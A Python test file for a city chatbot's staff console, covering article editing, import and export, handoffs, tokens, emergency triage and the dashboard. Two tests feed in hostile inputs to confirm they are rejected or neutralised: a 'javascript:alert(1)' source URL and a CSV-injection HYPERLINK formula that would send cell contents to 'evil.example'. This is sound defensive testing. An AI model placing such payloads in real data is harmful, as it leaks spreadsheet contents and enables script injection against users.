"""The console end to end over HTTP (TestClient): knowledge, import, unanswered questions,
'What would the bot say?', the request desk, the handoff inbox, tokens and the dashboard."""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Callable

import yaml
from fastapi.testclient import TestClient
from sqlalchemy import select

from bot.runtime import Runtime
from bot.staff import accounts
from bot.staff.accounts import first_name
from bot.storage.models import Conversation, Handoff, Notice
from tests.channels.channel_helpers import WebResident
from tests.channels.staff.conftest import Console
from tests.channels.staff.helpers import article_fields, counts, file_request


def ask(client: TestClient, text: str, resident: WebResident | None = None) -> dict:
    """What the bot answers a web resident (a new one unless given)."""
    return (resident or WebResident(client)).say(text)


def created_id(response) -> int:
    assert response.status_code == 303, response.text[:2000]
    found = re.fullmatch(r"/staff/knowledge/(\d+)", response.headers["location"])
    assert found, response.headers["location"]
    return int(found.group(1))


def test_create_publish_retire_restore_is_answered_at_once(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    editor = console("editor")
    fields = article_fields("glowworms", status="draft")
    article_id = created_id(editor.post("/staff/knowledge/new", fields))
    question = fields["questions"].splitlines()[0]
    assert "glowworm" not in ask(editor.client, question)["messages"][0]["text"]  # a draft
    editor.post(f"/staff/knowledge/{article_id}/publish")
    reply = ask(editor.client, question)
    assert reply["messages"][0]["text"] == fields["short_answer"]  # right away, same process
    page = editor.get(f"/staff/knowledge/{article_id}").text
    assert "Published" in page and "published" in page
    editor.post(f"/staff/knowledge/{article_id}/retire")
    assert ask(editor.client, question)["messages"][0]["text"] != fields["short_answer"]
    editor.post(f"/staff/knowledge/{article_id}/restore")
    assert ask(editor.client, question)["messages"][0]["text"] == fields["short_answer"]
    listed = editor.get("/staff/knowledge", params={"q": fields["slug"], "status": "published"})
    assert fields["title"] in listed.text
    assert (
        fields["title"]
        not in editor.get(
            "/staff/knowledge", params={"q": fields["slug"], "status": "archived"}
        ).text
    )


def test_validation_messages(console: Callable[[str], Console]) -> None:
    editor = console("editor")
    bad = article_fields(
        "chess",
        answer="   ",
        short_answer=" ".join(["word"] * 61),
        questions="When are bins collected here?\nwhen are  BINS collected here?",
        source_url="javascript:alert(1)",
    )
    response = editor.post("/staff/knowledge/new", bad)
    assert response.status_code == 422
    page = response.text
    assert "Not saved: please fix" in page
    assert "Full answer: must not be empty" in page
    assert "short answer has 61 words; keep it to 60 or fewer" in page
    assert "duplicate question variant" in page
    assert "must be a web address" in page
    assert 'aria-invalid="true"' in page
    assert "word word word" in page  # what was typed comes back, nothing lost


def test_question_that_lands_on_another_article(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    editor = console("editor")
    fields = article_fields(
        "pottery", questions="Are there pottery classes?\nI smell gas in my kitchen"
    )
    response = editor.post("/staff/knowledge/new", fields)
    assert response.status_code == 422
    assert "already lands on the article" in response.text
    assert "If you smell gas" in response.text  # names the article it lands on
    assert "Are there pottery classes" not in re.sub(
        r"<textarea.*?</textarea>", "", response.text, flags=re.S
    )
    article_id = created_id(editor.post("/staff/knowledge/new", {**fields, "save_anyway": "yes"}))
    editor.post(f"/staff/knowledge/{article_id}/retire")  # leave the gas article alone


def test_edit_revisions_diff_and_rollback(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    editor = console("editor")
    fields = article_fields("choir")
    article_id = created_id(editor.post("/staff/knowledge/new", fields))
    changed = {
        **fields,
        "short_answer": "Moved: the glowworm walk is now in July.",
        "note": "moved",
    }
    assert editor.post(f"/staff/knowledge/{article_id}/edit", changed).status_code == 303
    question = fields["questions"].splitlines()[0]
    assert "July" in ask(editor.client, question)["messages"][0]["text"]
    revisions = editor.get(f"/staff/knowledge/{article_id}/revisions").text
    assert "Moved: the glowworm walk is now in July." in revisions
    assert "short_answer (revision 1)" in revisions and "moved" in revisions
    response = editor.post(f"/staff/knowledge/{article_id}/rollback", {"revision": "1"})
    assert response.status_code == 303
    article = runtime.knowledge.get(article_id)
    assert (article.revision, article.short_answer) == (3, fields["short_answer"])
    assert ask(editor.client, question)["messages"][0]["text"] == fields["short_answer"]
    assert editor.get("/staff/knowledge/999999").status_code == 404
    missing = editor.post(f"/staff/knowledge/{article_id}/rollback", {"revision": "99"})
    assert "Not rolled back" in editor.get(missing.headers["location"]).text


CSV_HEADER = "slug,title,short_answer,answer,questions,category,department,source_url\n"


def csv_row(slug: str, title: str = "Kite flying", answer: str = "Yes, in Alder Park.") -> str:
    return (
        f'{slug},{title},"You may fly kites in Alder Park.","{answer}",'
        f'"Can I fly a kite {slug}? | Where can kites fly {slug}?",parks,Parks Department,'
        f"https://www.portalder.example/parks/kites\n"
    )


def test_import_dry_run_bad_row_and_apply(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    editor = console("editor")
    good, other = f"kites-{uuid.uuid4().hex[:6]}", f"kites-{uuid.uuid4().hex[:6]}"
    body = CSV_HEADER + csv_row(good) + csv_row(other, answer="")
    before = runtime.knowledge.version()
    response = editor.post(
        "/staff/knowledge/import", {"mode": "apply"}, files={"file": ("kb.csv", body, "text/csv")}
    )
    assert response.status_code == 422
    assert "Nothing was imported" in response.text
    assert "row 3: answer: must not be empty" in response.text  # row 1 is the header
    assert runtime.knowledge.version() == before
    assert runtime.knowledge.get_by_slug(good) is None  # nothing half-applied

    body = CSV_HEADER + csv_row(good) + csv_row(other)
    dry = editor.post(
        "/staff/knowledge/import", {"mode": "check"}, files={"file": ("kb.csv", body, "text/csv")}
    )
    assert dry.status_code == 200
    assert "nothing was changed" in dry.text and "2 to create" in dry.text
    assert runtime.knowledge.get_by_slug(good) is None
    applied = editor.post(
        "/staff/knowledge/import", {"mode": "apply"}, files={"file": ("kb.csv", body, "text/csv")}
    )
    assert applied.status_code == 200 and "Imported kb.csv" in applied.text
    article = runtime.knowledge.get_by_slug(good)
    assert article.questions == [f"Can I fly a kite {good}?", f"Where can kites fly {good}?"]
    assert ask(editor.client, f"Can I fly a kite {good}?")["messages"][0]["text"].startswith(
        "You may fly kites"
    )


def test_import_refuses_unreadable_files(console: Callable[[str], Console]) -> None:
    editor = console("editor")
    cases = [
        ("kb.csv", b"", "the file is empty"),
        ("kb.csv", b"\xff\xfe\x00bad", "not UTF-8"),
        ("kb.csv", b"slug,title,colour\nx,y,z\n", "unknown column(s) 'colour'"),
        ("kb.csv", b"slug,title\nx,y\n", "missing column(s): short_answer"),
        ("kb.yaml", b"articles: [unclosed", "cannot be read"),
        ("kb.yaml", b"just a string", "must be a list of articles"),
        ("kb.yaml", b"- 1\n- 2\n", "article 1: expected a mapping"),
        ("kb.exe", b"MZ", "choose a .csv"),
    ]
    for name, data, message in cases:
        response = editor.post(
            "/staff/knowledge/import", {"mode": "apply"}, files={"file": (name, data)}
        )
        assert response.status_code == 422, name
        assert message in response.text.replace("&#39;", "'"), (name, response.text[-2000:])


def test_export_round_trips_unchanged(console: Callable[[str], Console], runtime: Runtime) -> None:
    editor = console("editor")
    for fmt, name in (("csv", "kb.csv"), ("yaml", "kb.yaml")):
        exported = editor.get(f"/staff/knowledge/export.{fmt}")
        assert exported.status_code == 200
        assert "attachment" in exported.headers["content-disposition"]
        dry = editor.post(
            "/staff/knowledge/import",
            {"mode": "check"},
            files={"file": (name, exported.content)},
        )
        assert dry.status_code == 200, dry.text[-3000:]
        assert "0 to create, 0 to update" in dry.text
    data = yaml.safe_load(editor.get("/staff/knowledge/export.yaml").text)
    assert len(data["articles"]) >= 100


def test_csv_export_neutralises_formulas_and_round_trips(
    console: Callable[[str], Console], api: Callable[[str], TestClient]
) -> None:
    """OWASP CSV injection: no exported cell starts with = + - @ (or a tab or CR), and the
    text comes back exactly as it was, a leading ' included."""
    fields = article_fields(
        "beehives",
        title='=HYPERLINK("https://evil.example/?"&A1,"Beehives")',
        short_answer="+1 555 0100 is the bee line",
        answer="- a permit from Parks\n- a hive at least 3 m from the fence",
        category="'=already quoted",
        department="@Parks Office",
        questions=["-1 bees?", "Do I need a permit for a beehive?"],
    )
    editor, writer = console("editor"), api("editor")
    created = writer.post("/api/v1/staff/articles", json={"article": fields, "allow_overlap": True})
    assert created.status_code == 201, created.text
    for exported in (
        editor.get("/staff/knowledge/export.csv").content,
        writer.get("/api/v1/staff/export?format=csv").content,
    ):
        rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        ours = next(
            dict(zip(rows[0], row, strict=True)) for row in rows if row[0] == fields["slug"]
        )
        assert ours["title"].startswith("'=HYPERLINK")
        assert ours["category"] == "''=already quoted"
        assert ours["questions"].startswith("'-1 bees?")
        dry = editor.post(
            "/staff/knowledge/import", {"mode": "check"}, files={"file": ("kb.csv", exported)}
        )
        assert dry.status_code == 200, dry.text[-3000:]
        assert "0 to create, 0 to update" in dry.text  # every cell read back as it was
    changed = exported.replace(b"'=already quoted", b"'=now changed")
    applied = writer.post("/api/v1/staff/import?format=csv&dry_run=false", content=changed)
    assert applied.status_code == 200, applied.text
    article = writer.get(f"/api/v1/staff/articles/{created.json()['id']}").json()
    assert article["category"] == "'=now changed"
    assert article["title"] == fields["title"] and article["answer"] == fields["answer"]
    assert article["questions"][0] == "-1 bees?"


def test_unanswered_groups_into_variants_and_articles(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    word = uuid.uuid4().hex[:5]
    asked = [
        f"Can I rent a rowing boat on Lake Alder {word}?",
        f"where do I hire a rowing boat on lake alder {word}",
        f"Is there rowing boat hire at Lake Alder {word}?",
    ]
    other = f"How do I register a beehive in my garden {word}?"
    rowing = {runtime.knowledge.record_unanswered(text, "en", "web") for text in asked}
    bee = runtime.knowledge.record_unanswered(other, "en", "web")
    editor = console("editor")
    page = editor.get("/staff/unanswered").text
    groups = [
        {int(i) for i in ids.split(",")} for ids in re.findall(r'name="ids" value="([\d,]+)"', page)
    ]
    assert rowing in groups, "the three rowing-boat questions form one group"
    assert {bee} in groups, "the beehive question is a group of its own"
    assert "asked 3 times" in page

    fields = article_fields("rowing")
    target = created_id(editor.post("/staff/knowledge/new", fields))
    ids = ",".join(map(str, rowing))
    response = editor.post("/staff/unanswered/attach", {"ids": ids, "article_id": target})
    assert response.status_code == 303  # one click from the list
    article = runtime.knowledge.get(target)
    assert len(article.questions) == 5 and asked[0] in article.questions
    assert asked[0] not in editor.get("/staff/unanswered").text
    assert ask(editor.client, asked[1])["messages"][0]["text"] == fields["short_answer"]

    form = editor.get(f"/staff/knowledge/new?from={bee}").text  # click 1: prefilled
    assert other in form and f'name="unanswered" value="{bee}"' in form
    new = article_fields("beehives", questions=other, unanswered=str(bee))
    created_id(editor.post("/staff/knowledge/new", new))  # click 2: saved
    assert other not in editor.get("/staff/unanswered").text
    assert ask(editor.client, other)["messages"][0]["text"] == new["short_answer"]


def test_what_would_the_bot_say_changes_nothing(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    qa = console("qa")
    before = counts(runtime)
    page = qa.get("/staff", params={"ask": "What is the emergency number?"}).text
    assert "Intent: <strong>question</strong> (<code>ask_question</code>," in page
    assert "Emergency numbers" in page  # the top hit, with its score
    assert re.search(r'<td class="number">0\.\d{3}</td>', page)
    for channel in ("web", "telegram", "sms", "voice"):
        assert f'data-channel="{channel}"' in page
    assert "911" in page and "segment(s)" in page and "Press 1 for More details" in page
    unknown = "Can my llama attend the municipal opera gala on Tuesday?"
    qa.get("/staff", params={"ask": unknown})
    qa.get("/staff", params={"ask": "I want to talk to a person"})
    assert counts(runtime) == before  # no conversation, turn, handoff or unanswered question
    article = runtime.knowledge.get_by_slug("emergency-numbers")
    page = qa.get(f"/staff/knowledge/{article.id}", params={"ask": "call 911?"}).text
    assert "The reply, channel by channel" in page


def test_request_status_change_records_the_notice(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    agent = console("agent")
    web_reference = file_request(runtime, "web", "web-resident-123456")
    sms_reference = file_request(runtime, "sms", "+15550100")
    listing = agent.get("/staff/requests", params={"status": "submitted", "district": "Northgate"})
    assert web_reference in listing.text and sms_reference in listing.text
    assert web_reference not in agent.get("/staff/requests", params={"status": "closed"}).text
    assert web_reference not in agent.get("/staff/requests", params={"older_than": "7"}).text
    response = agent.post(
        f"/staff/requests/{web_reference}/status",
        {"status": "in_progress", "note": "A crew is booked for Monday."},
    )
    page = agent.get(response.headers["location"]).text
    assert "Status is now in progress. Notice to the resident: sent." in page
    assert "A crew is booked for Monday." in page
    response = agent.post(f"/staff/requests/{sms_reference}/status", {"status": "closed"})
    page = agent.get(response.headers["location"]).text
    assert "recorded as pending" in page  # no SMS sender configured here
    with runtime.db.sessions() as session:
        notices = session.scalars(select(Notice).where(Notice.address == "+15550100")).all()
        assert [(n.channel, n.status) for n in notices] == [("sms", "pending")]
    bad = agent.post(f"/staff/requests/{web_reference}/status", {"status": "teleported"})
    assert "unknown status" in agent.get(bad.headers["location"]).text
    assert agent.get("/staff/requests/REQ-1999-000000").status_code == 404


def test_handoff_take_reply_and_hand_back(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    agent, other = console("agent"), console("agent")
    resident = WebResident(agent.client)
    reply = ask(agent.client, "I want to talk to a person", resident)
    assert reply["handoff"] is True
    with runtime.db.sessions() as session:
        handoff = session.scalars(
            select(Handoff).where(Handoff.reply_address == resident.sender)
        ).one()
    inbox = agent.get("/staff/handoffs").text
    assert f"/staff/handoffs/{handoff.id}" in inbox and "talk to a person" in inbox
    base = f"/staff/handoffs/{handoff.id}"
    assert (
        "take this conversation"
        in agent.get(agent.post(f"{base}/reply", {"text": "hi"}).headers["location"]).text
    )
    agent.post(f"{base}/take")
    assert "has already taken" in other.get(other.post(f"{base}/take").headers["location"]).text
    response = agent.post(f"{base}/reply", {"text": "Hello, this is Dana from the city."})
    assert "Reply: sent." in agent.get(response.headers["location"]).text
    picked = resident.notices()
    assert [n["text"] for n in picked] == ["Hello, this is Dana from the city."]
    assert picked[0]["author"] == first_name(agent.name)  # shown as who answered
    ask(agent.client, "Thank you, my bin was not collected", resident)
    assert "my bin was not collected" in agent.get(base).text  # the resident's answer shows
    response = agent.post(f"{base}/release")
    assert response.headers["location"] == "/staff/handoffs"
    with runtime.db.sessions() as session:
        conversation = session.get(Conversation, handoff.conversation_id)
        assert conversation.status == "bot"
    back = ask(agent.client, "What is the emergency number?", resident)
    assert "911" in back["messages"][0]["text"]


def test_api_tokens_from_the_console(console: Callable[[str], Console], app) -> None:
    qa = console("qa")
    page = qa.post("/staff/tokens", {"name": "nightly report"}).text
    token = re.search(r'<p class="token" id="new-token">([^<]+)</p>', page).group(1)
    script = TestClient(app, headers={"Authorization": f"Bearer {token}"})
    assert script.get("/api/v1/staff/me").json() == {"name": qa.name, "role": "qa"}
    assert script.get("/api/v1/staff/articles", params={"q": "emergency"}).status_code == 200
    assert script.post("/api/v1/staff/articles", json={}).status_code == 403  # qa: read-only
    assert token not in qa.get("/staff/tokens").text  # shown once
    token_id = re.search(r"/staff/tokens/(\d+)/revoke", qa.get("/staff/tokens").text).group(1)
    qa.post(f"/staff/tokens/{token_id}/revoke")
    assert script.get("/api/v1/staff/me").status_code == 401


def test_staff_api_knowledge_and_preview(api: Callable[[str], TestClient]) -> None:
    editor = api("editor")
    fields = article_fields("skating")
    article = {**fields, "questions": fields["questions"].splitlines()}
    clash = {**article, "questions": ["What is the emergency number?"]}
    refused = editor.post("/api/v1/staff/articles", json={"article": clash})
    assert refused.status_code == 422 and "overlaps" in refused.json()["detail"]
    created = editor.post("/api/v1/staff/articles", json={"article": article})
    assert created.status_code == 201
    article_id = created.json()["id"]
    url = f"/api/v1/staff/articles/{article_id}"
    assert editor.post(f"{url}/retire").json()["status"] == "archived"
    assert editor.post(f"{url}/rollback", json={"revision": 1}).json()["status"] == "published"
    assert editor.post(f"{url}/teleport").status_code == 422
    said = editor.post("/api/v1/staff/preview", json={"text": article["questions"][0]}).json()
    assert said["hits"][0]["article_id"] == article_id
    assert said["reply"]["messages"][0]["text"] == article["short_answer"]
    csv = CSV_HEADER + csv_row(f"api-{uuid.uuid4().hex[:6]}", answer="")
    report = editor.post("/api/v1/staff/import?format=csv&dry_run=false", content=csv)
    assert report.status_code == 422 and report.json()["errors"][0].startswith("row 2: answer")


def test_dashboard_charts(console: Callable[[str], Console], runtime: Runtime) -> None:
    agent = console("agent")
    ask(agent.client, "What is the emergency number?")
    page = agent.get("/staff").text
    assert page.count("<svg") >= 3
    assert "Conversations per day and channel" in page and "Top intents" in page
    assert "Requests by status" in page and "Containment" in page
    assert re.search(r"<text[^>]*>question</text>", page)  # intents in words
    assert "ask_question" not in page
    assert "Top unanswered questions" in page


def test_an_emergency_comes_first_in_the_inbox_and_on_the_dashboard(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    agent = console("agent")
    waiting, resident = WebResident(agent.client), WebResident(agent.client)
    waiting.say("I want to talk to a person")  # an ordinary handoff, older
    reply = resident.say("there are flames coming out of my neighbours kitchen")
    assert reply["alert"] == "emergency" and reply["handoff"] is False
    with runtime.db.sessions() as session:
        handoff = session.scalars(
            select(Handoff).where(Handoff.reply_address == resident.sender)
        ).one()
        conversation = session.get(Conversation, handoff.conversation_id)
        assert conversation.alert == "emergency" and conversation.alert_at is not None
        assert conversation.status == "bot"  # the resident can go on talking to the bot
    assert handoff.alert == "emergency" and handoff.reason.startswith("triage: emergency")
    inbox = agent.get("/staff/handoffs").text
    rows = re.findall(r'href="/staff/handoffs/(\d+)"', inbox)
    with runtime.db.sessions() as session:
        older = session.scalars(
            select(Handoff).where(Handoff.reply_address == waiting.sender)
        ).one()
    assert rows.index(str(handoff.id)) < rows.index(str(older.id))  # before older ordinary ones
    assert 'class="badge alert">Emergency' in inbox
    assert (
        "gave the resident\n  the emergency number first"
        in agent.get(f"/staff/handoffs/{handoff.id}").text
    )
    resident.say("I want to talk to a person")
    with runtime.db.sessions() as session:  # asking for a person keeps the one handoff
        same = select(Handoff).where(Handoff.reply_address == resident.sender)
        assert len(session.scalars(same).all()) == 1
    assert re.search(r'id="alerts">[1-9]\d*<', agent.get("/staff").text)


def test_a_new_account_starts_with_the_least_role(
    console: Callable[[str], Console], runtime: Runtime
) -> None:
    admin = console("admin")
    form = admin.get("/staff/accounts").text
    chosen = re.search(r'<select id="new-role" name="role"[^>]*><option selected>(\w+)<', form)
    assert chosen and chosen.group(1) == "qa"
    name = f"new-{uuid.uuid4().hex[:8]}"
    admin.post("/staff/accounts", {"name": name, "password": "a good long password here"})
    with runtime.db.sessions() as session:
        assert accounts.find(session, name).role == "qa"
